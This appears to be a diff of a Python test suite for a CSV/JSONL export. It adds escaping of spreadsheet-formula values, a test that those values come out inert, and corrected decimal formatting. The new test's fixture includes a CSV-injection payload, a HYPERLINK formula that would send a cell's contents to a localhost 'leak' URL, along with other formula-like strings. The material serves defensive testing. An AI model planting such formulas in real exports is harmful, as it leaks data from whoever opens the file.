@@ -54,7 +54,9 @@ def _reference_cell(name: str, value):
         return json.dumps(value, sort_keys=True, separators=(",", ":"))
     if isinstance(value, datetime):
         return value.isoformat()
-    return str(value) if isinstance(value, Decimal) else value
+    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
+        return "'" + value  # a spreadsheet would run it as a formula
+    return format(value, "f") if isinstance(value, Decimal) else value
 
 
 def _reference_json(value):
@@ -165,6 +167,46 @@ def test_export_equals_the_reference_for_tricky_rows(tricky_campaign, fmt, with_
     )
 
 
+def test_text_that_starts_like_a_formula_is_inert_in_csv_and_unchanged_in_jsonl(task_factory):
+    campaign, make_task = task_factory
+    formula = make_task('=HYPERLINK("http://127.0.0.1/?leak="&A1,"open")', "+domain")
+    Attempt.objects.create(
+        campaign=campaign,
+        task=formula,
+        index=0,
+        status="done",
+        agent_cost=Decimal("0"),
+        eval_cost=Decimal("0"),
+        categories=["=1+1"],
+        termination="@SUM(A1)",
+        task_hash="\tTAB",
+        verdict="-2+3",
+        duration_ms=1.0,
+    )
+    attempts = Attempt.objects.filter(campaign=campaign)
+    assert export(attempts, fmt="csv") == reference_export(attempts, fmt="csv")
+    rows = list(csv.DictReader(io.StringIO(export(attempts, fmt="csv"), newline="")))
+    line = json.loads(export(attempts, fmt="jsonl").splitlines()[-1])
+
+    last = rows[-1]
+    assert (last["task_id"], last["domain"], last["termination"], last["task_hash"], last["verdict"]) == (
+        '\'=HYPERLINK("http://127.0.0.1/?leak="&A1,"open")',
+        "'+domain",
+        "'@SUM(A1)",
+        "'\tTAB",
+        "'-2+3",
+    )
+    assert (last["categories"], last["agent_cost"], last["eval_cost"]) == (
+        '["=1+1"]',
+        "0.00000000",
+        "0.00000000",
+    )
+    assert (line["task_id"], line["termination"]) == (
+        '=HYPERLINK("http://127.0.0.1/?leak="&A1,"open")',
+        "@SUM(A1)",
+    )
+
+
 def test_tricky_values_are_written_as_expected(tricky_campaign):
     attempts = Attempt.objects.filter(campaign=tricky_campaign)
     rows = list(csv.DictReader(io.StringIO(export(attempts, fmt="csv", with_result=True), newline="")))
@@ -176,7 +218,12 @@ def test_tricky_values_are_written_as_expected(tricky_campaign):
         by_key[("retail/café_日本_🚀", "0")],
     )
 
-    assert [row["agent_cost"] for row in rows] == ["0.01234000", "0E-8", "1.2E-7", "999999.99999999"]
+    assert [row["agent_cost"] for row in rows] == [
+        "0.01234000",
+        "0.00000000",
+        "0.00000012",
+        "999999.99999999",
+    ]
     assert (plain_second["eval_cost"], quoted["eval_cost"], accented["eval_cost"], rows[0]["eval_cost"]) == (
         "2.00000000",
         "123456.12345678",
